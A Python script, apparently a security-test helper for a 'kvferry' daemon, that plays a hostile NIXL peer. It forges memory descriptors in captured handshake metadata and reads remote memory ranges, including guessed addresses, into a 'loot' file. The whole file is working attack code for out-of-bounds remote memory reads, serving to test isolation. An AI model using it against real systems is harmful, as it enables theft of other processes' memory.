"""A peer that has been let in once and is broken: a raw NIXL agent with all that a daemon tells in its handshake.

stdin: {"said": the HandshakeReply in hex, "also": [[address, nbytes]] that it has learnt or guessed, "forge": whether
it rewrites the metadata so that the keys it was given seem to reach there, "loot": a file}. It reads every byte that
the metadata describes, and `also`, writes what it got to the file, and says of each range how that went.
"""

from __future__ import annotations

import json
import os
import struct
import sys
import time
from pathlib import Path
from typing import Any

import numpy as np

from kvferry.v1 import peer_pb2
from kvferryd.transport.metadata import DESCRIPTOR, LENGTH
from kvferryd.transport.nixl import make_agent

PIECE = 1 << 20
WAIT_S = 20.0


def described(blob: bytes) -> list[tuple[int, int, int]]:
    """(where it stands in the metadata, address, nbytes) of every piece of memory."""
    at = blob.index(b"nixlSDList|") + len(b"nixlSDList|")
    at += len(b"t") + LENGTH.size + 4 + 1
    (count,) = LENGTH.unpack_from(blob, at + len(b"n") + LENGTH.size)
    at += len(b"n") + 2 * LENGTH.size + 1
    found = []
    for _ in range(count):
        (length,) = LENGTH.unpack_from(blob, at)
        address, nbytes, _ = DESCRIPTOR.unpack_from(blob, at + LENGTH.size)
        found.append((at + LENGTH.size, address, nbytes))
        at += LENGTH.size + length + 1
    return found


def forged(blob: bytes, wanted: list[tuple[int, int]]) -> bytes:
    """A key now seems to be that of the first range wanted. NIXL wants its list in order."""
    below = [place for place, address, _ in described(blob) if address <= wanted[0][0]]
    changed = bytearray(blob)
    struct.pack_into("<QQ", changed, max(below, default=described(blob)[0][0]), *wanted[0])
    return bytes(changed)


def read(nixl: Any, name: str, here: Any, address: int, nbytes: int) -> bytes | None:
    rows = [np.array([(at, nbytes, 0)], dtype=np.uint64) for at in (here.ctypes.data, address)]
    own, far = (nixl.get_xfer_descs(row, "DRAM") for row in rows)
    here[:] = 0
    try:
        handle = nixl.initialize_xfer("READ", own, far, name)
        state, deadline = nixl.transfer(handle), time.monotonic() + WAIT_S
        while state == "PROC" and time.monotonic() < deadline:
            state = nixl.check_xfer_state(handle)
    except Exception as error:  # noqa: BLE001  NIXL's errors are RuntimeErrors of its own
        print(type(error).__name__, error, file=sys.stderr)
        return None
    return here[:nbytes].tobytes() if state == "DONE" else None


def main() -> None:
    job = json.loads(sys.stdin.read())
    answers = os.fdopen(os.dup(1), "w")
    os.dup2(2, 1)  # NIXL writes to stdout
    said = peer_pb2.HandshakeReply.FromString(bytes.fromhex(job["said"]))
    blob, also = said.agent_metadata, [(int(address), int(nbytes)) for address, nbytes in job["also"]]
    ranges = [(address, nbytes) for _, address, nbytes in described(blob)] + also
    nixl = make_agent(f"attacker-{os.getpid()}", threads=0)
    here = np.zeros(PIECE, dtype=np.uint8)
    nixl.register_memory(np.array([(here.ctypes.data, here.nbytes, 0)], dtype=np.uint64), "DRAM")
    nixl.add_remote_agent(forged(blob, also) if job["forge"] else blob)
    got = []
    with Path(job["loot"]).open("wb") as loot:
        for address, nbytes in ranges:
            pieces = [
                read(nixl, said.agent_name, here, address + at, min(PIECE, nbytes - at))
                for at in range(0, nbytes, PIECE)
            ]
            loot.write(b"".join(piece for piece in pieces if piece is not None))
            got.append([address, nbytes, all(piece is not None for piece in pieces)])
    answers.write(json.dumps(got))
    answers.flush()
    os._exit(0)  # the agent's threads have nothing to say any more


if __name__ == "__main__":
    main()
